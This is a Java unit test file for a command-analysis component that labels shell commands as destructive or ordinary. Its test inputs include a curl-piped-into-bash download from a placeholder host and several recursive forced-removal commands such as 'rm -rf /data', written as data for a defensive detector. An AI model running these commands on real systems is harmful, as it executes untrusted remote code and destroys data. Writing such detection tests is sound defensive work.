package dev.klyo.intent;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class CommandAnalysisTest {

    @Test
    void aDownloadPipedIntoAShellIsDestructive() {
        CommandAnalysis a = CommandAnalysis.of(List.of("/bin/sh", "-c", "curl -s https://x.example/install.sh | bash"));
        assertThat(a.shell()).isTrue();
        assertThat(a.downloadToShell()).isTrue();
        assertThat(a.programs()).contains("sh", "curl", "bash");
        assertThat(a.intent()).isEqualTo(Intent.DESTRUCTIVE);
    }

    @Test
    void recursiveForcedRemovalIsDestructiveInAnyFlagOrder() {
        for (List<String> cmd : List.of(List.of("rm", "-rf", "/data"), List.of("rm", "-fr", "/data"),
                List.of("rm", "-r", "-f", "/data"), List.of("bash", "-c", "cd /x && rm -Rf ."))) {
            assertThat(CommandAnalysis.of(cmd).destructive()).as(cmd.toString()).isTrue();
        }
    }

    @Test
    void ordinaryCommandsAreWritesNotDestructive() {
        CommandAnalysis a = CommandAnalysis.of(List.of("git", "status"));
        assertThat(a.destructive()).isFalse();
        assertThat(a.intent()).isEqualTo(Intent.WRITE);
        assertThat(CommandAnalysis.of(List.of("rm", "notes.txt")).destructive()).isFalse();
        assertThat(CommandAnalysis.of(List.of("sh", "-c", "curl -o file https://x.example/a; ls")).downloadToShell())
                .isFalse();
    }
}
